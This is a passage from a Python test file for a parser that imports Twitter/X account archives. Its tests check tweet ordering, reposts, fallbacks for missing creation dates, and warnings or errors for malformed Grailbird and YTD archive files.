        "display_name": "Camille D.",
        "created_at": "2009-03-07T17:44:39Z",
        "country": None,
        "birth_date": None,
        "protected": False,
        "status": "active",
    }
    items = contents(records)
    assert list(items) == ["20000001", "290000000000000002", "290000000000000001"]  # by month
    assert items["290000000000000002"]["text"] == "Deuxième & dernier"
    assert items["290000000000000002"]["created_at"] == "2013-01-31T22:10:33Z"
    repost = items["290000000000000001"]
    assert (repost["kind"], repost["repost_of"]) == ("repost", "280000000000000001")
    assert repost["created_at"] == "2013-01-02T07:00:00Z"


def test_a_grailbird_owner_without_creation_time_takes_the_earliest_tweet(tmp_path: Path) -> None:
    user = {"screen_name": "camille_d", "id": "14159265"}
    path = make_archive(tmp_path, grailbird_archive(user))
    records, rejections = parse(path)
    assert rejections == [] and records[0].record["created_at"] == "2009-12-24T18:00:00Z"
    (warning,) = _warnings(path)
    assert (warning.file, warning.field) == ("data/js/user_details.js", "created_at")


def test_a_bad_language_or_media_entry_is_dropped_with_a_warning_not_the_tweet(
    tmp_path: Path,
) -> None:
    odd = tweet(
        "1697000000000000020",
        "Deux photos",
        lang=["fr"],
        extended_entities={"media": ["pas un objet", {"type": "photo", "ext_alt_text": 7}]},
    )
    files = {"data/account.js": ytd("account", [ACCOUNT]), "data/tweets.js": ytd("tweets", [odd])}
    path = make_archive(tmp_path, files)
    records, rejections = parse(path)
    item = contents(records)["1697000000000000020"]
    assert rejections == [] and item["lang"] is None
    assert item["media"] == [{"type": "photo", "alt_text": None}]
    assert [(w.file, w.line, w.field) for w in _warnings(path)] == [
        ("data/tweets.js", 2, "tweet.lang"),
        ("data/tweets.js", 2, "tweet.extended_entities.media[0]"),
        ("data/tweets.js", 2, "tweet.extended_entities.media[1].ext_alt_text"),
    ]


@pytest.mark.parametrize("details", ["var user_details = [1, 2]", "var user_details = {broken"])
def test_a_broken_grailbird_owner_file_is_a_clear_error(tmp_path: Path, details: str) -> None:
    files = grailbird_archive() | {"data/js/user_details.js": details}
    with pytest.raises(ImportDataError, match=r"data/js/user_details\.js: "):
        parse(make_archive(tmp_path, files))
